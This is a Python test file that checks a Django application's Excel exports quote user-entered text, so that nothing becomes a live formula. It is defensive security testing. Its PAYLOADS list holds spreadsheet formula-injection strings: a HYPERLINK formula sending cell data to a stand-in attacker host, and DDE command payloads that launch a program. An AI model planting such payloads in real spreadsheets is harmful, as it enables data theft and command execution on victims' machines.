"""Exports are inert: nothing a user typed becomes a live formula in any Excel export."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from shezhi.common.sheets import safe_cell, safe_row
from shezhi.lifecircle.models import AnalysisRun, RunStatus
from shezhi.people.exporters import resident_export_xlsx
from shezhi.people.models import Resident
from shezhi.places.models import Division

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _client(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _assert_inert(content: bytes, planted: list[str]) -> None:
    """No cell is a formula, and every planted payload is there as quoted text."""
    book = load_workbook(io.BytesIO(content))
    seen: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                    seen.append(cell.value)
    for payload in planted:
        assert "'" + payload in seen, payload


@pytest.mark.parametrize("value", PAYLOADS)
def test_safe_cell_quotes_every_formula_trigger(value):
    assert safe_cell(value) == "'" + value


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert safe_row([-5, -2.5, 0, None, "建华社区", "a-b", dt.date(2026, 1, 1)]) == [
        -5,
        -2.5,
        0,
        None,
        "建华社区",
        "a-b",
        dt.date(2026, 1, 1),
    ]


@pytest.fixture
def resident(world) -> Resident:
    return Resident.objects.visible_to(world.alice).order_by("pk").first()


def test_the_resident_export_is_inert(world, resident):
    r = resident
    Resident.objects.filter(pk=r.pk).update(note=PAYLOADS[0], relation="")
    compound = r.household.compound
    compound.name = PAYLOADS[1]
    compound.save(update_fields=["name"])
    stream = resident_export_xlsx(
        actor=world.alice,
        residents=Resident.objects.visible_to(world.alice).filter(pk=r.pk),
        reason="月度核对名单",
    )
    _assert_inert(stream.read(), PAYLOADS[:2])


def test_the_resident_export_page_is_inert(world, resident):
    r = resident
    Resident.objects.filter(pk=r.pk).update(note=PAYLOADS[3])
    response = _client(world.alice).post("/people/residents/export/", {"reason": "月度核对名单"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    _assert_inert(b"".join(response.streaming_content), [PAYLOADS[3]])


def test_the_kpi_export_is_inert(world):
    from shezhi.cases.kpis import UnitKpi, kpi_workbook

    rows = [UnitKpi(unit=PAYLOADS[2], accepted=3), UnitKpi(unit=PAYLOADS[4])]
    content = kpi_workbook(
        rows, start=dt.datetime(2026, 1, 1, tzinfo=dt.UTC), end=dt.datetime(2026, 2, 1, tzinfo=dt.UTC)
    )
    _assert_inert(content, [PAYLOADS[2], PAYLOADS[4]])


@pytest.fixture
def poisoned_run(db):
    run = AnalysisRun.objects.filter(status=RunStatus.DONE, area__code="510108000000").latest("pk")
    gap = run.gaps.order_by("rank").first()
    assert gap is not None
    gap.detail = PAYLOADS[3]
    gap.element_name = PAYLOADS[0]
    gap.save(update_fields=["detail", "element_name"])
    Division.objects.filter(pk=gap.community_id).update(name=PAYLOADS[1])
    return run


def test_the_gap_list_export_is_inert(world, poisoned_run):
    response = _client(world.dora).get(f"/lifecircle/runs/{poisoned_run.pk}/gaps/?format=xlsx")
    assert response.status_code == 200
    _assert_inert(response.content, [PAYLOADS[3], PAYLOADS[0], PAYLOADS[1]])


def test_the_evaluation_report_workbook_is_inert(world, poisoned_run):
    response = _client(world.dora).get(f"/lifecircle/runs/{poisoned_run.pk}/report.xlsx")
    assert response.status_code == 200
    _assert_inert(response.content, [PAYLOADS[3], PAYLOADS[1]])
